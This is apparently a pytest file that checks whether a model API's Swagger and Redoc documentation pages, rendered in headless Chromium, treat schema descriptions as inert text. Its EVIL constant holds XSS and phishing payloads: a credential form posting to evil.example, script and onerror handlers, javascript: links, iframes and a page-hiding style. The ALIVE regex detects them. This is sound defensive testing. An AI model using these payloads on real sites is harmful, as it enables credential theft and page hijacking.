"""The documentation pages in a real browser without a network: the operations are there to be seen."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import numpy as np
import pytest
from sklearn.linear_model import LinearRegression

from tests.support import processes
from tests.support.proxy import stripping_proxy

pytestmark = pytest.mark.anyio

FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
    # Whatever is not on this machine does not resolve: a page that needs it stays blank.
    "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1", "--virtual-time-budget=20000",
]  # fmt: skip


@pytest.fixture(scope="session")
def chromium():
    """A Chromium of this machine; skipped by name where there is none and none is required."""
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if found is None:
        if "chromium" in os.environ.get("ADYTON_TEST_REQUIRE", "").split(","):
            pytest.fail("ADYTON_TEST_REQUIRE names chromium, and it is not found")
        pytest.skip("chromium: it is not found")
    return found


OPERATIONS = ("/v1/models/{model}/predict", "/audit/predictions", "Predict one row", "Who you are")
STATIC = Path(__file__).parents[2] / "api/static"
#: What a schema may hold, in Markdown and in HTML, that must be no more than words to whoever reads it.
EVIL = (
    'CANARY <form action="https://evil.example/take"><input name="password"><button>Sign in</button></form>'
    " <script>document.title = 'owned'</script> <img src=x onerror=\"document.title = 'owned'\">"
    ' <a href="javascript:document.title=1">click</a> [click](javascript:document.title=1) <javascript:alert(1)>'
    ' <iframe src="https://evil.example"></iframe> <style>#ui{display:none}</style> <svg onload="alert(1)"></svg>'
    ' \\<form id="escaped"></form> <div style="position:fixed;inset:0">over</div> <meta http-equiv="refresh" content="0;/x">'
)
#: None of this is in a page that only shows those words. The viewers' own forms and images have other attributes.
ALIVE = re.compile(
    r"<form[^>]*(?:evil|escaped)|<input[^>]*password|<button[^>]*>Sign in|<iframe|<img[^>]*onerror|<svg[^>]*onload"
    r"|<a[^>]*href=[\"']?javascript:|<style[^>]*>#ui|<div[^>]*position: ?fixed; ?inset|<meta http-equiv=.refresh|<title>(?!Adyton)",
    re.IGNORECASE,
)


def dumped(chromium: str, tmp_path, url: str, *flags: str) -> str:
    """The page's elements, once its scripts have run."""
    command = [chromium, *FLAGS, *flags, f"--user-data-dir={tmp_path}/profile", "--dump-dom", url]
    run = processes.run(command)
    assert run.returncode == 0, run.stderr
    assert "Refused to" not in run.stderr
    return run.stdout


def shows(page: str, text: str) -> bool:
    return text in page or text.replace("/", "/<wbr>") in page


@pytest.fixture
def evil_site(site):
    """A public model whose every description is an attack on its reader."""
    sample = np.array([[0.0], [1.0], [2.0]])
    schema = {"description": EVIL, "properties": {"x": {"description": EVIL, "title": EVIL}}}
    site.model("evil", LinearRegression().fit(sample, [1.0, 2.0, 3.0]), sample, ["x"], schema=schema)
    return site


@pytest.mark.parametrize("page", ["docs", "redoc"])
def test_a_models_description_is_words_on_the_pages(evil_site, serve, chromium, tmp_path, page):
    """No form, script, image, frame, style or `javascript:` of it lives; the operations are shown all the same."""
    server = serve(evil_site, ADYTON_DEFAULT_MODEL="evil")
    shown = dumped(chromium, tmp_path, f"{server.url}/{page}")
    assert shows(shown, OPERATIONS[0])
    assert page == "docs" or "CANARY" in shown
    assert not ALIVE.search(shown), ALIVE.search(shown)


@pytest.mark.parametrize("viewer", ["swagger", "redoc"])
async def test_a_models_description_is_words_to_each_viewer(evil_site, chromium, tmp_path, viewer):
    """With everything unfolded, and without the policy of our pages, which is a second wall."""
    async with evil_site.client() as client:
        served = (await client.get("/openapi.json")).json()
    body = served["paths"]["/predict"]["post"]["requestBody"]["content"]["application/json"]
    body["schema"] = {"$ref": "#/components/schemas/Row.evil"}
    served["info"]["description"] = EVIL
    document = json.dumps(served)
    show = {
        "swagger": "SwaggerUIBundle({spec, dom_id: '#ui', defaultModelsExpandDepth: 9, defaultModelExpandDepth: 9,"
                   " docExpansion: 'full', defaultModelRendering: 'model'})",
        "redoc": "Redoc.init(spec, {sanitize: true, untrustedSpec: true}, document.getElementById('ui'))",
    }[viewer]  # fmt: skip
    library = {"swagger": "swagger-ui-bundle.js", "redoc": "redoc.standalone.js"}[viewer]
    for name in (library, "safe_document.js"):
        shutil.copy(STATIC / name, tmp_path / name)
    script = f"const spec = withoutHtml({document}); {show};"
    (tmp_path / "show.js").write_text(script)
    scripts = "".join(f'<script src="{name}"></script>' for name in (library, "safe_document.js", "show.js"))
    page = tmp_path / "page.html"
    page.write_text(f'<!doctype html><meta charset="utf-8"><title>Adyton</title><div id="ui"></div>{scripts}')
    shown = dumped(chromium, tmp_path, page.as_uri())
    assert shown.count("CANARY") >= 2, "in the introduction and in the schema"
    assert not ALIVE.search(shown.replace(script, "")), ALIVE.search(shown)


@pytest.mark.parametrize("page", ["docs", "docs/", "redoc"])
def test_the_pages_work_behind_a_proxy_that_strips_a_prefix(site, serve, chromium, tmp_path, page):
    """From either spelling, with the prefix in the document's `servers`."""
    with stripping_proxy("/models/v3", serve(site, ADYTON_ROOT_PATH="/models/v3").url) as url:
        shown = dumped(chromium, tmp_path, f"{url}/models/v3/{page}")
    assert all(shows(shown, text) for text in OPERATIONS)
    assert "/models/v3" in shown


@pytest.mark.parametrize("page", ["docs", "redoc"])
def test_the_pages_show_the_operations_without_a_network(shared_server, chromium, tmp_path, page):
    """Rendered by scripts of ours alone, under the page's own policy."""
    shown = dumped(chromium, tmp_path, f"{shared_server.url}/{page}")
    for text in OPERATIONS:
        assert shows(shown, text), text
